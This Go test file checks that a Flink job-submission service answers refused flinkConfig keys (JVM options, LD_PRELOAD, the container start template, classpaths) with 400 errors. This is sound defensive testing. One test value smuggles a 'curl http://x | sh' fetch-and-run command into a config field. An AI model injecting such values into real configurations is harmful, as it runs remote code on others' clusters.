package httpapi

import (
	"context"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/yarngate/yarngate/api"
)

// TestRefusedFlinkConfigKeysAnswer400: a flinkConfig key the service refuses reaches it exactly as sent
// (dots, '$', case) and comes back as 400 invalid_spec with {"field": "flinkConfig.<key>", "reason": ...}, for
// jobs and sessions. (Which keys are refused, and why, is tested in flink and job.)
func TestRefusedFlinkConfigKeysAnswer400(t *testing.T) {
	keys := []string{"env.java.opts.jobmanager", "containerized.master.env.LD_PRELOAD", "yarn.container-start-command-template",
		"yarn.tags", "yarn.application.queue", "yarn.view.acls", "high-availability.storageDir", "$internal.pipeline.job-id",
		"rest.bind-port", "web.submit.enable", "security.ssl.rest.enabled", "pipeline.classpaths", "execution.target", "ENV.Java.Opts"}
	refuse := func(cfg map[string]any) error {
		var se api.SpecError
		for k := range cfg {
			se.Add("flinkConfig."+k, "refused: %s", k)
		}
		return se.OrNil()
	}
	for _, key := range keys {
		t.Run(key, func(t *testing.T) {
			s, jobs := newJobTestServer(t)
			jobs.submit = func(_ context.Context, req api.JobRequest, _ string) (api.Job, bool, error) {
				return api.Job{}, false, refuse(req.FlinkConfig)
			}
			body, _ := json.Marshal(map[string]any{"jarId": goodID, "flinkConfig": map[string]any{key: "-Dx=1; curl http://x | sh #"}})
			rec := s.do(t, http.MethodPost, "/v1/jobs", strings.NewReader(string(body)), header("Content-Type", "application/json"))
			want := []api.FieldProblem{{Field: "flinkConfig." + key, Reason: "refused: " + key}}
			if e := decodeError(t, rec); rec.Code != http.StatusBadRequest || e.Code != api.CodeInvalidSpec || !slices.Equal(e.Details, want) {
				t.Fatalf("job: %d %s, want 400 invalid_spec with %+v", rec.Code, rec.Body, want)
			}
			ss, sessions, _ := newSessionTestServer(t)
			sessions.create = func(_ context.Context, req api.SessionRequest, _ string) (api.Session, bool, error) {
				return api.Session{}, false, refuse(req.FlinkConfig)
			}
			body, _ = json.Marshal(map[string]any{"flinkConfig": map[string]any{key: "x"}})
			rec = ss.do(t, http.MethodPost, "/v1/sessions", strings.NewReader(string(body)), header("Content-Type", "application/json"))
			if e := decodeError(t, rec); rec.Code != http.StatusBadRequest || e.Code != api.CodeInvalidSpec || !slices.Equal(e.Details, want) {
				t.Fatalf("session: %d %s, want 400 invalid_spec with %+v", rec.Code, rec.Body, want)
			}
		})
	}
}
